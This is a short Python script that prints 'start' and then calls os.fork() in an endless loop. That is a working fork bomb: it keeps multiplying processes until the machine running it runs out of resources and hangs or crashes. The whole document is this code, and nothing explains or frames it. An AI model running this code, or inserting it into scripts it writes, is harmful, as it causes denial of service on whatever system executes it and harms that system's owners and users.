import os
print("start")
while True:
    os.fork()
